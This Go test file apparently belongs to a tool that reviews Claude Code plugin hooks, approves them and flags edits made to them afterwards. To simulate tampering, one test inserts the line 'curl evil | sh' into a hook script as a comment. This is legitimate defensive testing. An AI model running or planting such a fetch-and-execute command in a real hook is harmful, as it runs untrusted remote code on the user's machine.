package main

import (
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"

	"vouch/internal/testtree"
)

// --claude reviews the copies Claude Code installed (what it runs), read-only.
func TestClaudeInstalled(t *testing.T) {
	home := t.TempDir()
	cfg := t.TempDir()
	dst := filepath.Join(cfg, "plugins", "cache", "team-market", "commit-guard", "1.2.0")
	testtree.Copy(t, filepath.Join("..", "..", "examples", "claude-code", "commit-guard"), dst)
	t.Setenv("CLAUDE_CONFIG_DIR", cfg)
	code, out, errOut := runVouch(t, home, "status", "--claude")
	if code != 0 || !strings.Contains(out, "claude-code commit-guard") || !strings.Contains(out, "hook:PreToolUse:0:0") {
		t.Fatalf("status --claude: exit %d\n%s\n%s", code, out, errOut)
	}
	code, _, _ = runVouch(t, home, "status", "--claude", "--require-approved")
	if code != 1 {
		t.Errorf("an unreviewed installed hook must fail the gate, exit %d", code)
	}
	t.Setenv("CLAUDE_CONFIG_DIR", filepath.Join(cfg, "missing"))
	code, _, errOut = runVouch(t, home, "validate", "--claude")
	if code != 2 || !strings.Contains(errOut, "plugins/cache, which does not exist") {
		t.Errorf("missing install dir: exit %d %q", code, errOut)
	}
	code, _, errOut = runVouch(t, home, "validate")
	if code != 2 || !strings.Contains(errOut, "requires at least 1 arg") {
		t.Errorf("no SOURCE and no --claude: exit %d %q", code, errOut)
	}
}

// Claude Code reads a plugin installed from a local-folder marketplace from that folder,
// not from its cache copy (observed with 2.1.328): --claude must review and bind the
// folder, so an edit there makes check fail, and an edit to the unused cache copy does not.
func TestClaudeInstalledReadsWhatRuns(t *testing.T) {
	home, cfg, market := t.TempDir(), t.TempDir(), filepath.Join(t.TempDir(), "market")
	testtree.Copy(t, filepath.Join("..", "..", "examples", "claude-code", "marketplace"), market)
	cache := filepath.Join(cfg, "plugins", "cache", "example-tools", "format-on-save", "0.1.0")
	testtree.Copy(t, filepath.Join(market, "plugins", "format-on-save"), cache)
	testtree.WriteFiles(t, filepath.Join(cfg, "plugins"), map[string]string{
		"installed_plugins.json":  `{"version":2,"plugins":{"format-on-save@example-tools":[{"scope":"user","installPath":` + quoteJSON(cache) + `,"version":"0.1.0"}]}}`,
		"known_marketplaces.json": `{"example-tools":{"source":{"source":"directory","path":` + quoteJSON(market) + `},"installLocation":` + quoteJSON(market) + `}}`,
	})
	testtree.WriteFiles(t, cfg, map[string]string{"settings.json": `{"enabledPlugins":{"format-on-save@example-tools":true}}`})
	t.Setenv("CLAUDE_CONFIG_DIR", cfg)
	code, out, errs := runVouch(t, home, "status", "--claude")
	expect(t, "status --claude", code, 0, out, errs)
	for _, want := range []string{"format-on-save@example-tools", "enabled by " + filepath.Join(cfg, "settings.json"), filepath.Join(market, "plugins", "format-on-save")} {
		if !strings.Contains(out, want) {
			t.Fatalf("status --claude lacks %q:\n%s", want, out)
		}
	}
	src := filepath.Join(cfg, "plugins")
	const hook = "format-on-save#hook:PostToolUse:0:0"
	expectRun(t, home, "approve", 0, "approve", "--yes", src, hook)
	expectRun(t, home, "check approved", 0, "check", src, hook)
	// The cache copy is not what runs: editing it changes nothing.
	testtree.Replace(t, filepath.Join(cache, "scripts", "format.sh"), "#", "# cache copy edited\n#")
	expectRun(t, home, "check after a cache edit", 0, "check", src, hook)
	// The marketplace folder is: check fails.
	testtree.Replace(t, filepath.Join(market, "plugins", "format-on-save", "scripts", "format.sh"), "#", "# curl evil | sh\n#")
	wantStatus(t, home, src, hook, "changed", "hook is %s after the folder Claude reads it from changed")
	expectRun(t, home, "check after the folder changed", 1, "check", src, hook)
}

func quoteJSON(s string) string { b, _ := json.Marshal(s); return string(b) }
